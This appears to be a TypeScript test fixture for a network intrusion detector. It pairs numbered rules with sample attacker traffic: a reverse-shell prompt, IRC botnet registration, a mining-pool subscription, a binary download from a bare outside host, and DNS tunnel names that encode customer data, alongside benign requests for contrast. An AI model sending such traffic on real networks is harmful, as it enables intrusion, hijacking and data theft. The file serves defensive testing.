/** What somebody who broke into an app sends from inside, once. */
export interface BreakInTalk {
  readonly what: string
  /** Number of the rule of the detector that is there for it. */
  readonly rule: number
  readonly port: number
  readonly says: string
}

/** Ports outside that the app may reach; all of its talks go there. */
export const TALK_PORTS = { web: 80, other: 6667 } as const

const request = (start: string, ...headers: string[]) => `${[start, ...headers].join('\r\n')}\r\n\r\n`

/** One for each rule about what apps send that needs a connection to somebody of his. */
export const breakInTalks = (outside: string): readonly BreakInTalk[] => [
  {
    what: 'shell that leads outside',
    rule: 7_000_130,
    port: TALK_PORTS.other,
    says: "sh: 0: can't access tty; job control turned off\n$ ",
  },
  {
    what: 'chat by which programs are steered',
    rule: 7_000_132,
    port: TALK_PORTS.other,
    says: 'NICK worker17\r\nUSER worker17 0 * :worker17\r\n',
  },
  {
    what: 'work for a mining pool',
    rule: 7_000_110,
    port: TALK_PORTS.other,
    says: '{"id":1,"method":"mining.subscribe","params":["drill/1.0"]}\n',
  },
  {
    what: 'program fetched from a bare address',
    rule: 7_000_131,
    port: TALK_PORTS.web,
    says: request('GET /bins/worker.x86_64 HTTP/1.1', `Host: ${outside}`, 'User-Agent: Wget'),
  },
  {
    what: 'password in the open',
    rule: 7_000_140,
    port: TALK_PORTS.web,
    // user:drill
    says: request('GET /feed HTTP/1.1', 'Host: feed.invalid', 'Authorization: Basic dXNlcjpkcmlsbA=='),
  },
]

/** Names that carry packed data: what is asked for in a minute of a tunnel. */
export const TUNNEL = {
  what: 'tunnel through name questions',
  rule: 7_000_120,
  names: Array.from({ length: 12 }, (_, at) => {
    const packed = Buffer.from(`line ${at} of a list of customers, packed`).toString('hex')
    return `${packed.slice(0, 56)}.${packed.slice(0, 40)}.tunnel.invalid`
  }),
} as const

const NOTICE = '{"text":"login from a new shell, your nick is user"}'
/** What apps send to services outside every day. */
export const ordinaryTalks: ReadonlyArray<Pick<BreakInTalk, 'port' | 'says'>> = [
  request('GET /v1/rates?base=EUR HTTP/1.1', 'Host: rates.invalid', 'Accept: application/json'),
  request('GET /archive/tool-2.1.tar.gz HTTP/1.1', 'Host: files.invalid'),
  request('GET /v1/me HTTP/1.1', 'Host: api.invalid', 'Authorization: Bearer c2VjcmV0'),
  `${request('POST /hooks HTTP/1.1', 'Host: hooks.invalid', `Content-Length: ${NOTICE.length}`)}${NOTICE}`,
].map((says) => ({ port: TALK_PORTS.web, says }))
